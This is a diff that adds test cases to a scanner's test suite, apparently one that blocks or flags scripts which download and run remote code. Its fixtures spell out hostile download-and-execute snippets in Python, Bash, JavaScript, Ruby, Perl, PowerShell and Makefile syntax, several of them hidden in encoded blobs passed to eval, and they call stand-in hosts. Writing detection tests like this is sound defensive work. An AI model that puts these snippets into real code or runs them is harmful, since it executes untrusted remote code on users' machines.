@@ -47,3 +47,36 @@ describe("remote control over a connection", () => {
     ],
   );
 });
+
+describe("downloaded code run, however it is reached", () => {
+  check(
+    [
+      ["python: a fetched reply handed to os.system", { "scripts/a.py": 'import os, requests\nbody = requests.get("http://198.51.100.5/a").text\nos.system(body)\n' }, "SR-DLEXEC-008", "blocked"],
+      ["bash: a download function's output run with sh -c", { "scripts/a.sh": 'dl() { wget -qO- "$1"; }\npayload=$(dl "http://198.51.100.6/x")\nsh -c "$payload"\n' }, "SR-DLEXEC-008", "blocked"],
+      ["javascript: axios reply run by new Function in the promise chain", { "scripts/a.js": "const axios = require('axios');\naxios.get('https://cdn.c.example/p.js').then((r) => new Function(r.data)());\n" }, "SR-DLEXEC-008", "blocked"],
+      ["ruby: a zlib-compressed base64 blob evaluated", { "scripts/a.rb": 'require "zlib"; require "base64"\neval(Zlib::Inflate.inflate(Base64.decode64("RB")))\n'.replace("RB", "eJwrriwuSc3VUEouLcpR0C1WyCgpKbDS1ze0tNAzNdQzNDDQMzLUL1KoUSjOUNIEAEgtDOc=") }, "SR-DLEXEC-001", "blocked"],
+      ["javascript: a gzip blob inflated and evaluated", { "scripts/a.js": "const zlib = require('zlib');\neval(zlib.gunzipSync(Buffer.from('JS', 'base64')).toString());\n".replace("JS", "H4sIAIk1D2sC/ytKLSzNLErVUE/OyMxJiS8oyk9OLS5W19RLrUhNDq7MS9ZQL09PLVHQLfTXVcgoKSmw0tc3tLTQMzXUMzQw0DMy0s9TqFFISizOUNcEAJl326VMAAAA") }, "SR-DLEXEC-001", "blocked"],
+      ["perl: base64 under __DATA__ evaluated", { "scripts/a.pl": "use MIME::Base64;\nmy $code = decode_base64(join '', <DATA>);\neval $code;\n__DATA__\nPL\n".replace("PL", "c3lzdGVtKCJ3Z2V0IC1xTy0gaHR0cDovLzE5OC41MS4xMDAuMjMvcCB8IHNoIik7") }, "SR-DLEXEC-001", "blocked"],
+      ["Makefile: a URL from a variable piped into /bin/sh", { "Makefile": "BASE ?= https://get.tools.example\nSHELL := /bin/sh\ninstall:\n\tcurl -fsSL $(BASE)/i | $(SHELL)\n" }, "SR-DLEXEC-008", "blocked"],
+    ],
+    [
+      ["a fetched version passed to git as one argument", { "scripts/a.py": 'import subprocess, requests\ntag = requests.get("https://api.github.com/repos/o/r/releases/latest").json()["tag_name"]\nsubprocess.run(["git", "checkout", tag])\n' }, "flagged"],
+      ["a compressed settings blob", { "scripts/a.py": "import zlib, base64, json\nDEFAULTS = json.loads(zlib.decompress(base64.b64decode('CFG')))\n".replace("CFG", "eJyrVirJSM1NVbJSUEpJLMpW0lFQKs9MKckAClgYADnJ+TmluXnFQG60Ul4iUCFQrDizKlUpthYAFAwR1Q==") }, "flagged"],
+      ["a download function that saves an archive and unpacks it", { "scripts/a.sh": 'get() { curl -fsSL -o "$2" "$1"; }\nget https://github.com/o/r/releases/download/v1/r.tgz r.tgz\ntar xzf r.tgz\n' }, "flagged"],
+    ],
+  );
+});
+
+describe("a download saved under a variable path, then started", () => {
+  check(
+    [
+      ["node: https.get piped into a write stream, then execFileSync", { "scripts/a.js": "const https = require('https');\nconst fs = require('fs');\nconst { execFileSync } = require('child_process');\nconst bin = require('os').tmpdir() + '/helper';\nconst out = fs.createWriteStream(bin, { mode: 0o755 });\nhttps.get('https://dl.c.example/helper', (res) => { res.pipe(out); out.on('finish', () => execFileSync(bin)); });\n" }, "SR-DLEXEC-008", "blocked"],
+      ["PowerShell: WebClient.DownloadFile then Start-Process -FilePath", { "scripts/a.ps1": "$p = Join-Path $env:LOCALAPPDATA 'upd.exe'\n(New-Object Net.WebClient).DownloadFile('http://198.51.100.31/u.exe', $p)\nStart-Process -FilePath $p -WindowStyle Hidden\n" }, "SR-DLEXEC-008", "blocked"],
+      ["python: urlretrieve to a temp path handed to bash", { "scripts/a.py": 'import os, subprocess, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), "i.sh")\nurllib.request.urlretrieve("http://198.51.100.32/i.sh", p)\nsubprocess.call(["bash", p])\n' }, "SR-DLEXEC-008", "blocked"],
+    ],
+    [
+      ["python: a release tarball saved to a temp path and unpacked with tar", { "scripts/a.py": 'import os, subprocess, tempfile, urllib.request\npath = os.path.join(tempfile.mkdtemp(), "r.tgz")\nwith open(path, "wb") as f:\n    f.write(urllib.request.urlopen("https://github.com/o/r/archive/v1.tar.gz").read())\nsubprocess.run(["tar", "xzf", path])\n' }, "flagged"],
+      ["go: a JSON index saved and read back", { "scripts/main.go": 'package main\nimport ("io"; "net/http"; "os")\nfunc main() {\n\tresp, _ := http.Get("https://proxy.golang.org/x/@v/list")\n\tf, _ := os.Create(idx)\n\tio.Copy(f, resp.Body)\n\tdata, _ := os.ReadFile(idx)\n\t_ = data\n}\n' }, "flagged"],
+    ],
+  );
+});
